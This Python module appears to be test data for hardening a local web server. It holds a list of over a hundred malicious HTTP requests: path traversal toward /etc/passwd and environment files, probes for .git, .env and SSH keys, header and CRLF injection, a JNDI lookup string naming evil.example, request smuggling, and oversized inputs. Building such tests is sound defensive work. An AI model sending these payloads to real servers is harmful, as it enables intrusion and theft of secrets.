"""More than a hundred malicious requests, as sent over the network."""

from collections.abc import Iterator

from webserver import HOST

#: Must not be in any response: content of files that are not public.
SECRET = "kept-from-the-public"


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


TRAVERSAL = _words(
    r"""
/../outside.txt
/../../../../etc/passwd
/tasks/../../outside.txt
/en/tasks/../../../outside.txt
/%2e%2e/outside.txt
/%2e%2e%2foutside.txt
/..%2foutside.txt
/.%2e/outside.txt
/%2E%2E/outside.txt
/..%5coutside.txt
/..\outside.txt
/..\..\..\windows\win.ini
/%252e%252e%252foutside.txt
/%25%32%65%25%32%65/outside.txt
/....//outside.txt
/..;/outside.txt
/%c0%ae%c0%ae/outside.txt
/%e0%80%ae%e0%80%ae/outside.txt
/..%c0%afoutside.txt
/..%ef%bc%8foutside.txt
/%uff0e%uff0e/outside.txt
/%2
/%
/%zz
/a%
/assets../outside.txt
/assets/..%2f..%2foutside.txt
/assets/..%2f../outside.txt
/releases/1/index.html
/current/index.html
/1/index.html
/outside.txt
/etc/passwd
/proc/self/environ
/index.html%00
/outside.txt%00.html
/%00
/tasks/01/index.html%00.txt
/tasks/01/index.html%20
/tasks/01/index.html.
/tasks/01/index.html::$DATA
/tasks/01/index.html/
/tasks/01/index.html/../../../../outside.txt
/~root/
/TASKS/01/
"""
)

HIDDEN = _words(
    r"""
/.git/config
/.git/HEAD
/.git/
/%2egit/config
/.env
/%2eenv
/en/.env
/tasks/.hidden
/.htaccess
/.htpasswd
/.ssh/id_rsa
/.svn/entries
/.DS_Store
/.well-known/../.env
/.current
/index.html.br
/index.html.gz
/en/index.html%2ebr
/index.html~
/index.html.bak
/mkdocs.yml
/data/site.yml
/hooks/main.py
/wp-login.php
/phpinfo.php
/index.php?a=../../outside.txt
/cgi-bin/test
/server-status
/nginx_status
/actuator/env
/admin/
"""
)

INJECTION = _words(
    r"""
/%0d%0aSet-Cookie:%20x-injected=1
/tasks%0d%0aX-Injected:%201
/old%0d%0aX-Injected:%201
/%0aX-Injected:1
/%e5%98%8a%e5%98%8dX-Injected:1
/%3cscript%3ealert(1)%3c/script%3e
/${jndi:ldap://evil.example/a}
/{{7*7}}
"""
)

METHODS = _words("POST PUT DELETE PATCH OPTIONS TRACE CONNECT PROPFIND MKCOL MOVE LOCK DEBUG get G@T GETS")

#: Header lines of a request for a page that exists.
HEADERS = {
    "two hosts": f"Host: {HOST}\r\nHost: evil.example",
    "another host": "Host: evil.example",
    "no host": "Accept: */*",
    "empty host": "Host:",
    "host with a way": f"Host: {HOST}/../outside.txt",
    "host with a user": f"Host: root@{HOST}",
    "host with a nul": f"Host: {HOST}\0",
    "host in two lines": f"Host: {HOST}\rX-Injected: 1",
    "space before the colon": f"Host: {HOST}\r\nX-Test : 1",
    "nul in a header": f"Host: {HOST}\r\nX-Test: a\0b",
    "length and chunks": f"Host: {HOST}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked",
    "chunks": f"Host: {HOST}\r\nTransfer-Encoding: chunked",
    "chunks twice": f"Host: {HOST}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "chunks in a list": f"Host: {HOST}\r\nTransfer-Encoding: chunked, chunked",
    "chunks with a tab": f"Host: {HOST}\r\nTransfer-Encoding:\tchunked",
    "chunks, spoiled": f"Host: {HOST}\r\nTransfer-Encoding: xchunked",
    "chunks, identity": f"Host: {HOST}\r\nTransfer-Encoding: identity, chunked",
    "chunks, hidden": f"Host: {HOST}\r\nTransfer-Encoding : chunked",
    "two lengths": f"Host: {HOST}\r\nContent-Length: 0\r\nContent-Length: 40",
    "length in a list": f"Host: {HOST}\r\nContent-Length: 4, 4",
    "negative length": f"Host: {HOST}\r\nContent-Length: -1",
    "length with a sign": f"Host: {HOST}\r\nContent-Length: +40",
    "length in hexadecimal": f"Host: {HOST}\r\nContent-Length: 0x10",
    "length that overflows": f"Host: {HOST}\r\nContent-Length: 18446744073709551617",
    "a gigabyte": f"Host: {HOST}\r\nContent-Length: 1073741824",
    "a range backwards": f"Host: {HOST}\r\nRange: bytes=9-1",
    "a range far away": f"Host: {HOST}\r\nRange: bytes=999999999-",
    "a range that overflows": f"Host: {HOST}\r\nRange: bytes=18446744073709551616-",
    "five ranges": f"Host: {HOST}\r\nRange: bytes=0-,0-,0-,0-,0-",
    "a thousand ranges": f"Host: {HOST}\r\nRange: bytes={','.join(f'{n}-{n}' for n in range(1000))}",
    "a long header": f"Host: {HOST}\r\nX-Test: {'a' * 9_000}",
    "a huge header": f"Host: {HOST}\r\nX-Test: {'a' * 200_000}",
    "a long name": f"Host: {HOST}\r\n{'a' * 9_000}: 1",
    "huge cookies": f"Host: {HOST}\r\nCookie: {'a=b; ' * 8_000}",
    "many headers": f"Host: {HOST}\r\n" + "\r\n".join(f"X-{n}: {'a' * 100}" for n in range(1_000)),
}

#: First lines, with a host after them.
LINES = {
    "a later version": "GET / HTTP/9.9",
    "HTTP/2 without its frames": "GET / HTTP/2.0",
    "no number": "GET / HTTP/",
    "small letters": "GET / http/1.1",
    "another protocol": "GET / FTP/1.0",
    "words after": "GET / HTTP/1.1 more",
    "no way": "GET HTTP/1.1",
    "a way without a slash": "GET index.html HTTP/1.1",
    "a carriage return": "GET /\rX-Injected: 1 HTTP/1.1",
    "a nul": "GET /\0 HTTP/1.1",
    "a control character": "GET /\x01 HTTP/1.1",
    "a file": "GET file:///etc/passwd HTTP/1.1",
    "a proxy": "GET http://evil.example/ HTTP/1.1",
    "a long way": f"GET /{'a' * 9_000} HTTP/1.1",
    "a huge way": f"GET /{'a' * 200_000} HTTP/1.1",
    "a long query": f"GET /?{'a' * 9_000} HTTP/1.1",
    "a long method": f"{'A' * 9_000} / HTTP/1.1",
    "deep folders": f"GET {'/a' * 3_000} HTTP/1.1",
}

SMUGGLED = f"GET /.env HTTP/1.1\r\nHost: {HOST}\r\n\r\n"

#: Complete requests.
WHOLE = {
    "HTTP/0.9": b"GET /\r\n",
    "zeros": b"\0" * 300,
    "the beginning of TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"\xff" * 300,
    "the beginning of HTTP/2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\4\0\0\0\0\0",
    "empty lines": b"\r\n" * 20_000,
    "no end": b"GET / HTTP/1.1\r\n" + b"A" * 40_000,
    "a request in a body": (
        f"GET / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {len(SMUGGLED)}\r\n\r\n{SMUGGLED}".encode()
    ),
    "a request after chunks": (
        f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{SMUGGLED}"
    ).encode(),
    "a chunk that overflows": (
        f"GET / HTTP/1.1\r\nHost: {HOST}\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff1\r\n{SMUGGLED}"
    ).encode(),
}


def requests() -> Iterator[tuple[str, bytes]]:
    """Yield every request, with a name."""
    end = f"\r\nHost: {HOST}\r\n\r\n"
    for path in (*TRAVERSAL, *HIDDEN, *INJECTION):
        yield path, f"GET {path} HTTP/1.1{end}".encode()
    for method in METHODS:
        yield method, f"{method} / HTTP/1.1{end}".encode()
    for name, lines in HEADERS.items():
        yield name, f"GET /en/ HTTP/1.1\r\n{lines}\r\n\r\n".encode()
    for name, line in LINES.items():
        yield name, f"{line}{end}".encode()
    yield from WHOLE.items()
